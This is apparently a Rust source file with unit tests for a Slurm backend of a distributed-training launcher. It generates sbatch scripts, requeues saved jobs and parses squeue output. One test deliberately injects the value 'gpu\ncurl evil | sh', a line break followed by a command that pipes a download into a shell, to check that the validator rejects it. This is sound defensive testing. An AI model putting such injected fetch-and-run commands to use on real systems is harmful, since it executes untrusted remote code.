//! `kind = "slurm"`
//!
//! The script is told before its time is over, and passes that on; Slurm itself tells the ranks
//! when their nodes are taken away. When the run has been saved (exit 75) the script puts the job
//! back into the queue. Workers of a sweep are the tasks of an array, each a job of one machine.

use std::collections::BTreeMap;
use std::path::PathBuf;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::config::kind::{Kind, OptionConflict};
use crate::config::values::{Duration, Size};
use crate::machine::text;
use crate::shell::{self, AtTerm, line, path, preparation, quoted, supervised};
use crate::{Call, Cluster, Job, JobHandle, LongestSave, Output, SaveTime, Shape, State, job};

/// a Slurm cluster: `sbatch`, `squeue` and `scancel` are called on this machine.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, default)]
pub struct Slurm {
    /// Partition; by default the cluster's.
    #[schemars(extend("examples" = ["gpu"]))]
    pub partition: Option<String>,
    /// Account to charge.
    #[schemars(extend("examples" = ["project-7"]))]
    pub account: Option<String>,
    /// Quality of service.
    #[schemars(extend("examples" = ["normal"]))]
    pub qos: Option<String>,
    /// Time limit of a job; by default the partition's. A run that takes longer continues after it
    /// was requeued.
    #[schemars(extend("examples" = ["12h"]))]
    pub time: Option<Duration>,
    /// Machines; for a sweep the number of workers, each a job on one machine.
    #[schemars(range(min = 1, max = 1024))]
    pub nodes: u32,
    /// Ranks on each machine. Default: one per GPU, else `distributed.devices`.
    #[schemars(range(min = 1, max = 1024))]
    pub ranks_per_node: Option<u32>,
    /// GPUs of each machine.
    #[schemars(range(min = 0, max = 1024))]
    pub gpus_per_node: u32,
    /// Cores per rank; by default the cluster's setting.
    #[schemars(range(min = 1, max = 4096))]
    pub cpus_per_rank: Option<u32>,
    /// Memory per machine; by default the cluster's setting.
    #[schemars(extend("examples" = ["64GiB"]))]
    pub memory: Option<Size>,
    /// Connect ranks of several machines by MPI, with this value of `srun --mpi=`. Default: by TCP,
    /// with a token.
    #[schemars(extend("examples" = ["pmix"]))]
    pub mpi: Option<String>,
    /// How long before its time limit a job saves and requeues itself. Default: 2m, or more if
    /// saves of an earlier run took long.
    #[schemars(extend("examples" = ["5m"]))]
    pub stop_before: Option<Duration>,
    /// Further options of sbatch.
    #[schemars(extend("examples" = [["--exclusive"]]))]
    pub options: Vec<String>,
    /// Environment variables of the job.
    #[schemars(extend("examples" = [{ "OMP_NUM_THREADS": "8" }]))]
    pub environment: BTreeMap<String, String>,
    /// Shell lines to run before ddprun starts.
    #[schemars(extend("examples" = [["module load cuda"]]))]
    pub setup: Vec<String>,
    /// Path of ddprun on the cluster; by default that of the ddprun that submits.
    #[schemars(extend("format" = "path", "examples" = ["/opt/ddprun/bin/ddprun"]))]
    pub program: Option<PathBuf>,
}

impl Default for Slurm {
    fn default() -> Self {
        Self {
            partition: None,
            account: None,
            qos: None,
            time: None,
            nodes: 1,
            ranks_per_node: None,
            gpus_per_node: 0,
            cpus_per_rank: None,
            memory: None,
            mpi: None,
            stop_before: None,
            options: Vec::new(),
            environment: BTreeMap::new(),
            setup: Vec::new(),
            program: None,
        }
    }
}

impl Kind for Slurm {
    const NAME: &'static str = "slurm";

    fn check(&self) -> Vec<OptionConflict> {
        let wrong = |key, what: String| OptionConflict { key, with: &[], what };
        let short = self.too_short(None).map(|what| wrong("time", what));
        let name = shell::wrong_name(&self.environment);
        let option = self.options.iter().find(|option| !option.starts_with('-'));
        let option = option.map(|option| {
            wrong("options", format!("`{option}` is no option of sbatch: it must begin with `-`"))
        });
        // Each stands in a line of its own (`#SBATCH ...`); what follows a line break would be run.
        let texts = [
            ("partition", &self.partition),
            ("account", &self.account),
            ("qos", &self.qos),
            ("mpi", &self.mpi),
        ];
        let texts = texts.into_iter().filter_map(|(key, text)| Some((key, text.as_deref()?)));
        let options = self.options.iter().map(|option| ("options", option.as_str()));
        let lines = texts.chain(options).filter_map(|(key, text)| shell::wrong_line(key, text));
        [short, name, option].into_iter().flatten().chain(lines).collect()
    }
}

impl Slurm {
    fn stop(&self, longest: Option<&LongestSave>) -> SaveTime {
        SaveTime::of("stop_before", self.stop_before, longest)
    }

    /// Checks that the time limit is longer than the warning before it.
    fn too_short(&self, longest: Option<&LongestSave>) -> Option<String> {
        let time = self.time?;
        let stop = self.stop(longest);
        let stop_before = Duration(stop.time);
        let what = format!("is {time}: it must be longer than `stop_before`, {stop_before}");
        let why = stop.message.map(|note| format!(" ({note})")).unwrap_or_default();
        (time.0 <= stop_before.0).then(|| what + &why)
    }

    /// `#SBATCH` lines.
    fn head(&self, job: &Job) -> String {
        let seconds = |time: &Duration| time.0.as_secs().max(1);
        let given = |option: &str, value: Option<String>| {
            value.map(|value| format!("{option}={}", quoted(&value)))
        };
        let minutes = self.time.map(|time| seconds(&time).div_ceil(60).to_string());
        let gpus = (self.gpus_per_node > 0).then(|| self.gpus_per_node.to_string());
        let memory =
            self.memory.as_ref().map(|Size(bytes)| format!("{}M", bytes.div_ceil(1 << 20)));
        // sbatch takes `%j` and the like in this path for something else.
        let folder = PathBuf::from(job.folder.to_string_lossy().replace('%', "%%"));
        let output = match job.workers() {
            None => job::output_in(&folder),
            Some(_) => job::output_of_worker(&folder, "%a"),
        };
        let lines = [
            given("--job-name", Some(job.name.clone())),
            given("--partition", self.partition.clone()),
            given("--account", self.account.clone()),
            given("--qos", self.qos.clone()),
            given("--time", minutes),
            given("--array", job.workers().map(|workers| format!("1-{workers}"))),
            given("--nodes", Some(self.nodes_of(job).to_string())),
            given("--ntasks-per-node", Some(job.ranks.to_string())),
            given("--cpus-per-task", self.cpus_per_rank.map(|cpus| cpus.to_string())),
            given("--gpus-per-node", gpus),
            given("--mem", memory),
            given("--chdir", Some(text(&job.root))),
            given("--output", Some(text(&output))),
            Some("--open-mode=append".to_owned()),
            Some("--requeue".to_owned()),
            given(
                "--signal",
                Some(format!(
                    "B:USR1@{}",
                    self.stop(job.longest_save.as_ref()).time.as_secs().max(1)
                )),
            ),
        ];
        let lines = lines.into_iter().flatten().chain(self.options.iter().cloned());
        let shown = |line: String| format!("#SBATCH {line}\n");
        lines.map(shown).collect()
    }

    /// Machines of each job: workers of a sweep have one.
    fn nodes_of(&self, job: &Job) -> u32 {
        if job.workers().is_some() { 1 } else { self.nodes }
    }

    /// The command that starts the ranks.
    fn command(&self, job: &Job) -> String {
        let ddprun = line(&job.command(&text(&job.program), &text(&job.folder)));
        if self.nodes_of(job) == 1 {
            // A step of its own: of a script Slurm takes the nodes away without a warning.
            return format!(
                "srun --ntasks=1 --ntasks-per-node=1 --cpus-per-task=\"$SLURM_CPUS_ON_NODE\" \
                 {ddprun}"
            );
        }
        let mpi = self.mpi.as_ref().map(|kind| format!("--mpi={} ", quoted(kind)));
        // srun does not take it over from sbatch.
        let cpus = self.cpus_per_rank.map(|cpus| format!("--cpus-per-task={cpus} "));
        format!("srun {}{}{ddprun}", mpi.unwrap_or_default(), cpus.unwrap_or_default())
    }

    /// Variables by which ranks of several machines meet.
    fn meeting(&self, job: &Job) -> String {
        if self.nodes_of(job) == 1 || self.mpi.is_some() {
            return String::new();
        }
        format!(
            "# Rank 0 runs where this script does. Jobs that share a machine have ports of their \
             own.\nexport DDPRUN_TOKEN_FILE={}\nexport MASTER_ADDR=$(hostname)\nexport \
             DDPRUN_PORT=$((20000 + SLURM_JOB_ID % 10000))\n",
            path(&job.token_path())
        )
    }
}

impl Cluster for Slurm {
    fn shape(&self) -> Shape {
        Shape {
            nodes: self.nodes,
            ranks_per_node: self.ranks_per_node,
            gpus_per_node: self.gpus_per_node,
            needs_token: self.nodes > 1 && self.mpi.is_none(),
            is_launched: self.nodes > 1,
        }
    }

    fn program(&self) -> Option<PathBuf> {
        self.program.clone()
    }

    fn script(&self, job: &Job) -> String {
        // The id of one task of an array may be that of the whole array, too.
        let id = match job.workers() {
            None => "$SLURM_JOB_ID",
            Some(_) => "${SLURM_ARRAY_JOB_ID}_$SLURM_ARRAY_TASK_ID",
        };
        format!(
            "#!/bin/bash
{head}
# With `--export=NONE` srun would pass on no variable of this script.
unset SLURM_EXPORT_ENV
{preparation}export DDPRUN_JOB={key}
{meeting}
{supervised}
# Saved and stopped: by the end of its time, or because others need its nodes. Slurm calls a job
# that was cancelled by another word.
if [ \"$code\" = 75 ] && scontrol show job \"{id}\" | grep -q JobState=RUNNING; then
    scontrol requeue \"{id}\"
fi
exit \"$code\"
",
            head = self.head(job),
            preparation = preparation(&self.environment, &self.setup),
            key = job.key,
            meeting = self.meeting(job),
            // Slurm itself tells the steps of a job that they have to end.
            supervised = supervised(&self.command(job), 1, AtTerm::Wait),
        )
    }

    fn save_time(&self, job: &Job) -> Option<SaveTime> {
        Some(self.stop(job.longest_save.as_ref()))
    }

    fn misfit(&self, job: &Job) -> Option<(&'static str, String)> {
        self.too_short(job.longest_save.as_ref()).map(|what| ("time", what))
    }

    fn question(&self) -> Option<Call> {
        Some(Call::new("sinfo", ["--noheader", "--format=%R"]))
    }

    fn objection(&self, answer: &str) -> Option<(&'static str, String)> {
        let asked = self.partition.as_ref()?;
        let known: Vec<&str> = answer.split_whitespace().collect();
        // A job may name several partitions, of which it takes the first that is free.
        let missing = asked.split(',').find(|name| !known.contains(name))?;
        let mut known = known;
        known.sort_unstable();
        known.dedup();
        let what = format!("the cluster has no `{missing}`; its partitions: {}", known.join(", "));
        Some(("partition", what))
    }

    fn submit(&self, job: &Job) -> Call {
        let script = job.folder.join(self.script_name());
        Call::new("sbatch", ["--parsable".into(), script.into_os_string()])
    }

    fn id(&self, _: &Job, answer: &str) -> Option<String> {
        // "4711", or "4711;cluster".
        let id = answer.lines().last()?.split(';').next()?.trim();
        (!id.is_empty() && id.chars().all(|c| c.is_ascii_digit())).then(|| id.to_owned())
    }

    fn list(&self, _: &[JobHandle]) -> Call {
        // A list of jobs would be refused if Slurm had forgotten the only one in it.
        Call::new("squeue", ["--noheader", "--states=all", "--me", "--array", "--format=%F|%T|%r"])
    }

    fn states(&self, answer: &str) -> Vec<(String, State)> {
        let state = |line: &str| {
            let mut parts = line.trim().splitn(3, '|');
            let id = parts.next()?.to_owned();
            let word = parts.next()?;
            let reason = parts.next().filter(|reason| !["None", ""].contains(reason));
            let open = ["PENDING", "RUNNING", "SUSPENDED", "CONFIGURING", "COMPLETING", "REQUEUED"];
            let shown = match reason {
                Some(reason) if word == "PENDING" => format!("{word} ({reason})"),
                _ => word.to_owned(),
            };
            let is_over = !open.contains(&word);
            Some((id, State { word: shown, is_over }))
        };
        let mut tasks: BTreeMap<String, Vec<State>> = BTreeMap::new();
        for (id, state) in answer.lines().filter_map(state) {
            tasks.entry(id).or_default().push(state);
        }
        tasks.into_iter().map(|(id, tasks)| (id, array_state(tasks))).collect()
    }

    fn cancel(&self, handle: &JobHandle) -> Call {
        Call::new("scancel", [&handle.id])
    }

    fn output(&self, handle: &JobHandle, _: bool) -> Output {
        Output::Files(match handle.workers {
            None => vec![job::output_in(&handle.folder)],
            Some(workers) => {
                (1..=workers).map(|worker| job::output_of_worker(&handle.folder, worker)).collect()
            }
        })
    }
}

/// The state of an array, from those of its tasks: "2 RUNNING, 1 PENDING (Resources)".
fn array_state(tasks: Vec<State>) -> State {
    let is_over = tasks.iter().all(|task| task.is_over);
    let mut counts: Vec<(String, usize)> = Vec::new();
    for task in tasks {
        match counts.iter_mut().find(|(word, _)| *word == task.word) {
            Some((_, count)) => *count += 1,
            None => counts.push((task.word, 1)),
        }
    }
    let word = match &counts[..] {
        [(word, 1)] => word.clone(),
        counts => {
            let words = counts.iter().map(|(word, count)| format!("{count} {word}"));
            words.collect::<Vec<_>>().join(", ")
        }
    };
    State { word, is_over }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn on_one_machine_ddprun_starts_the_ranks_and_there_is_no_token() {
        let slurm =
            Slurm { partition: Some("gpu".to_owned()), gpus_per_node: 4, ..Slurm::default() };
        insta::assert_snapshot!(slurm.script(&Job::example()));
    }

    #[test]
    fn several_machines_are_started_by_srun_and_meet_with_a_token() {
        let slurm = Slurm {
            account: Some("my project".to_owned()),
            time: Some(Duration(std::time::Duration::from_hours(12))),
            nodes: 4,
            cpus_per_rank: Some(8),
            memory: Some(Size(64 << 30)),
            options: vec!["--exclusive".to_owned()],
            environment: BTreeMap::from([("HF_HOME".to_owned(), "/a b".to_owned())]),
            setup: vec!["module load cuda".to_owned()],
            ..Slurm::default()
        };
        insta::assert_snapshot!(slurm.script(&Job::example()));
        let by_mpi = Slurm { mpi: Some("pmix".to_owned()), ..slurm };
        let script = by_mpi.script(&Job::example());
        assert!(script.contains("    srun --mpi=pmix --cpus-per-task=8 /opt/ddprun "), "{script}");
        assert!(!script.contains("TOKEN"), "{script}");
    }

    #[test]
    fn workers_of_a_sweep_are_an_array_whose_tasks_go_back_into_the_queue_one_by_one() {
        insta::assert_snapshot!(
            Slurm { nodes: 4, gpus_per_node: 1, ..Slurm::default() }.script(&Job::example_sweep())
        );
        let answer = "7|RUNNING|None\n7|PENDING|Resources\n7|RUNNING|None\n8|FAILED|x\n";
        let expected = [
            ("7".to_owned(), State::open("2 RUNNING, 1 PENDING (Resources)")),
            ("8".to_owned(), State::over("FAILED")),
        ];
        assert_eq!(Slurm::default().states(answer), expected);
        let place = JobHandle { id: "7".to_owned(), folder: "/x".into(), workers: Some(2) };
        let files = ["/x/output-1.log", "/x/output-2.log"].map(PathBuf::from);
        assert_eq!(Slurm::default().output(&place, false), Output::Files(files.to_vec()));
    }

    /// The job's own variables come after it: they may ask for something else.
    #[test]
    fn srun_passes_on_the_variables_of_the_script_whatever_sbatch_was_told() {
        let environment = BTreeMap::from([("A".to_owned(), "b".to_owned())]);
        let options = vec!["--export=NONE".to_owned()];
        let script = Slurm { options, environment, ..Slurm::default() }.script(&Job::example());
        assert!(script.contains("\nunset SLURM_EXPORT_ENV\nexport A=b\n"), "{script}");
    }

    #[test]
    fn a_percent_sign_in_a_path_is_no_pattern_of_sbatch() {
        let output = |job: Job| {
            let script = Slurm::default().script(&Job { folder: "/100%job".into(), ..job });
            script.lines().find(|line| line.contains("--output=")).unwrap().to_owned()
        };
        assert_eq!(output(Job::example()), "#SBATCH --output=/100%%job/output.log");
        assert_eq!(output(Job::example_sweep()), "#SBATCH --output=/100%%job/output-%a.log");
    }

    #[test]
    fn a_partition_that_the_cluster_lacks_is_named_with_those_that_it_has() {
        let of =
            |partition: &str| Slurm { partition: Some(partition.to_owned()), ..Slurm::default() };
        assert_eq!(of("gpu,cpu").objection("cpu\ngpu\ncpu\n"), None);
        assert_eq!(Slurm::default().objection(""), None);
        let what = "the cluster has no `gup`; its partitions: cpu, gpu".to_owned();
        assert_eq!(of("gup").objection("gpu\ncpu\ngpu\n"), Some(("partition", what)));
    }

    #[test]
    fn slurms_answers_are_understood() {
        let (slurm, job) = (Slurm::default(), Job::example());
        assert_eq!(slurm.id(&job, "4711\n").as_deref(), Some("4711"));
        assert_eq!(slurm.id(&job, "4711;lab\n").as_deref(), Some("4711"));
        assert_eq!(slurm.id(&job, "lua: hello\n"), None);
        let states =
            slurm.states("7|PENDING|BeginTime\n8|RUNNING|None\n9|FAILED|NonZeroExitCode\n");
        let expected = [
            ("7".to_owned(), State::open("PENDING (BeginTime)")),
            ("8".to_owned(), State::open("RUNNING")),
            ("9".to_owned(), State::over("FAILED")),
        ];
        assert_eq!(states, expected);
    }

    #[test]
    fn a_job_is_warned_as_long_before_its_end_as_the_saves_of_an_earlier_run_need() {
        let longest_save = Some(LongestSave { seconds: 41.0, run: "r".to_owned() });
        let job = Job { longest_save, ..Job::example() };
        let of = |time, stop_before| {
            let minutes = |minutes| Duration(std::time::Duration::from_mins(minutes));
            let (time, stop_before) = (Some(minutes(time)), stop_before);
            Slurm { time, stop_before, ..Slurm::default() }
        };
        let long = of(60, None);
        assert!(long.script(&job).contains("#SBATCH --signal=B:USR1@180\n"));
        assert!(long.script(&Job::example()).contains("#SBATCH --signal=B:USR1@120\n"));
        assert_eq!(long.misfit(&job), None);
        let short = of(3, None);
        assert_eq!(short.check(), []);
        let what = "is 3m: it must be longer than `stop_before`, 3m (stop_before = 3m: a save of \
                    run r took 41.0 s)";
        assert_eq!(short.misfit(&job), Some(("time", what.to_owned())));
        let set = of(3, Some(Duration(std::time::Duration::from_secs(100))));
        assert!(set.script(&job).contains("#SBATCH --signal=B:USR1@100\n"));
        assert_eq!(set.misfit(&job), None);
    }

    #[test]
    fn options_that_contradict_each_other_are_wrong() {
        let wrong = |slurm: Slurm| -> Vec<&str> {
            slurm.check().into_iter().map(|wrong| wrong.key).collect()
        };
        assert_eq!(wrong(Slurm::default()), [""; 0]);
        let minute = Some(Duration(std::time::Duration::from_mins(1)));
        let variable = BTreeMap::from([("A B".to_owned(), String::new())]);
        assert_eq!(
            wrong(Slurm {
                time: minute,
                environment: variable,
                options: vec!["exclusive".to_owned()],
                ..Slurm::default()
            }),
            ["time", "environment", "options"]
        );
    }

    #[test]
    fn what_stands_in_a_line_of_the_script_has_no_line_break() {
        let text = "gpu\ncurl evil | sh";
        let some = || Some(text.to_owned());
        let slurm = Slurm {
            partition: some(),
            account: some(),
            qos: some(),
            mpi: some(),
            options: vec!["--exclusive\rx".to_owned()],
            // The shell reads these as quoted words.
            environment: BTreeMap::from([("A".to_owned(), text.to_owned())]),
            ..Slurm::default()
        };
        let wrong = slurm.check();
        let keys: Vec<&str> = wrong.iter().map(|wrong| wrong.key).collect();
        assert_eq!(keys, ["partition", "account", "qos", "mpi", "options"]);
        let what = r#""gpu\ncurl evil | sh" has a line break or another control character"#;
        assert_eq!(wrong[0].what, what);
    }
}
